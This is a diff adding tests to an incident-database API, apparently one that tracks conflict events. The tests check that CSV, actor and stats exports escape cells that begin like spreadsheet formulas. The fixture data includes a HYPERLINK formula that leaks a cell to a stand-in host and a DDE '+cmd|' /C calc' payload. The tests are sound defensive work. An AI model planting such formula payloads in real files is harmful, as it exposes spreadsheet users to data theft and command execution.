@@ -119,3 +119,51 @@ async def test_exports_stream_after_the_request_has_committed(fmt, mentions):
             response = await desk.get("/v1/incidents", params={"format": fmt})
     assert response.status_code == 200
     assert response.text.count(created.json()["id"]) == mentions  # a feature names it twice
+
+
+LEAK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+
+
+async def formula_incident(client) -> dict:
+    """An incident whose text, place and actor begin like spreadsheet formulas."""
+    actor = await client.post("/v1/actors", json={"name": "@SUM(1+1)", "kind": "armed_group"})
+    assert actor.status_code == 201, actor.text
+    body = {
+        "type": "shelling",
+        "start_date": "2017-02-01",
+        "description": LEAK,
+        "place": {"name": "+cmd|' /C calc'!A0", "governorate": "-2+3",
+                  "latitude": 35.5, "longitude": -0.25},
+        "killed": {"low": 1, "best": 2, "high": 3},
+        "actors": [{"actor_id": actor.json()["id"], "role": "perpetrator"}],
+        "tags": ["@mention"],
+    }  # fmt: skip
+    created = await client.post("/v1/incidents", json=body)
+    assert created.status_code == 201, created.text
+    return created.json()
+
+
+@pytest.mark.parametrize("search", [{}, {"q": "HYPERLINK"}])
+async def test_csv_cells_never_begin_a_formula(client, search):
+    await formula_incident(client)
+    params = {"format": "csv", "place": "cmd", **search}
+    (row,) = read_csv(await client.get("/v1/incidents", params=params))
+
+    assert row["description"] == "'" + LEAK
+    assert row["place.name"] == "'+cmd|' /C calc'!A0"
+    assert row["place.governorate"] == "'-2+3"
+    assert row["actors"] == "'@SUM(1+1) (perpetrator, alleged)"
+    assert row["tags"] == "'@mention"
+    assert (row["place.longitude"], row["killed.best"]) == ("-0.25", "2")
+
+
+async def test_actor_and_stats_csv_cells_never_begin_a_formula(client):
+    await formula_incident(client)
+    actors = read_csv(await client.get("/v1/actors", params={"format": "csv", "q": "SUM"}))
+    stats = await client.get(
+        "/v1/stats/incidents", params={"format": "csv", "group_by": "governorate"}
+    )
+
+    assert [actor["name"] for actor in actors] == ["'@SUM(1+1)"]
+    groups = {row["governorate"]: row["count"] for row in read_csv(stats)}
+    assert groups["'-2+3"] == "1"
